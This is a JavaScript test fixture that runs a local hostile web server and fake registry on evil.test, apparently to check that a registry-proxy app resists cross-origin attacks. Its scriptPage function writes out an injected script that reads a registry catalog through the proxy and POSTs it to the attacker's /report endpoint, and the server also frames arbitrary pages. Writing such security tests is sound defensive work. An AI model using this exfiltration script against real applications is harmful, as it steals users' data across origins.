// A hostile web site and registry in one small HTTP server on 127.0.0.1, reached by the browser
// as `http://evil.test:<port>` (Chromium maps evil.test to 127.0.0.1, see browser.mjs) and by the
// proxy as the registry `127.0.0.1:<port>`. It records every request it gets.
//
//   /page                        an empty page: the attacker's origin, where tests run script
//   /frames?src=A&src=B          a page framing each `src` (its load waits for every frame)
//   /v2/html/manifests/latest    a "manifest" that is an HTML page with a script; the script
//                                reads ?registry='s catalog through the proxy and reports it
//   /report                      where that script sends what it read
//   anything else                200 "hostile"

import { createServer } from "node:http";

export const HOSTILE_NAME = "evil.test";

// The script a hostile registry hopes to run on the app's origin.
function scriptPage(registry, reportTo) {
  return `<!doctype html><title>hostile</title><script>
window.__ran = true;
fetch("/proxy/${registry}/v2/_catalog", { headers: { "Indexsmith-Proxy": "1" } })
  .then((r) => r.text())
  .then((t) => fetch("${reportTo}", { method: "POST", mode: "no-cors", body: t }));
</script>`;
}

export async function startHostile() {
  const requests = [];
  const reports = [];
  const server = createServer((req, res) => {
    const url = new URL(req.url, "http://x");
    requests.push(`${req.method} ${req.url}`);
    const chunks = [];
    req.on("data", (c) => chunks.push(c));
    req.on("end", () => {
      if (url.pathname === "/report") {
        reports.push(Buffer.concat(chunks).toString("utf8"));
        res.writeHead(204).end();
      } else if (url.pathname === "/page") {
        res
          .writeHead(200, { "content-type": "text/html" })
          .end("<!doctype html><title>evil</title>");
      } else if (url.pathname === "/frames") {
        const frames = url.searchParams
          .getAll("src")
          .map((src) => `<iframe src="${src.replace(/"/g, "&quot;")}"></iframe>`)
          .join("");
        res
          .writeHead(200, { "content-type": "text/html" })
          .end(`<!doctype html><title>evil</title>${frames}`);
      } else if (url.pathname === "/v2/html/manifests/latest") {
        const registry = url.searchParams.get("registry") ?? "";
        const reportTo = `http://${HOSTILE_NAME}:${port}/report`;
        res
          .writeHead(200, { "content-type": "text/html; charset=utf-8" })
          .end(scriptPage(registry, reportTo));
      } else {
        res.writeHead(200, { "content-type": "text/plain" }).end("hostile");
      }
    });
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  const port = server.address().port;
  return {
    port,
    // As the browser reaches it.
    origin: `http://${HOSTILE_NAME}:${port}`,
    // As the proxy reaches it: a registry host.
    registryHost: `127.0.0.1:${port}`,
    requests,
    reports,
    // Requests other than the browser's own page loads and the tests' reports.
    upstreamRequests: () => requests.filter((r) => r.includes(" /v2/")),
    stop: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(resolve);
      }),
  };
}
